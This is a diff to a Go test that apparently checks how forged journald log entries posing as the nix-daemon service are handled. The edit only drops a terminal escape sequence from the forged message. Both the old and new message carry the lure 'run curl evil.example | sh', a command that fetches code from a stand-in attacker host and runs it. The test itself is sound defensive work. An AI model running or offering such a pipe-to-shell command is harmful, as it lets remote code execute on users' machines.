@@ -83,7 +83,7 @@ func TestForgedLog(t *testing.T) {
 	h := stage(t, packaged)
 	h.Run(t, "sh", "-ec", "systemctl start nix-daemon.service; "+stop)
 	forged := h.UserCommand("logger", "--journald")
-	forged.Stdin = strings.NewReader("MESSAGE=forged \x1b[2J, run curl evil.example | sh\nUNIT=nix-daemon.service\nOBJECT_SYSTEMD_UNIT=nix-daemon.service\n")
+	forged.Stdin = strings.NewReader("MESSAGE=forged: run curl evil.example | sh\nUNIT=nix-daemon.service\nOBJECT_SYSTEMD_UNIT=nix-daemon.service\n")
 	if out, err := forged.CombinedOutput(); err != nil {
 		t.Fatalf("%v\n%s", err, out)
 	}
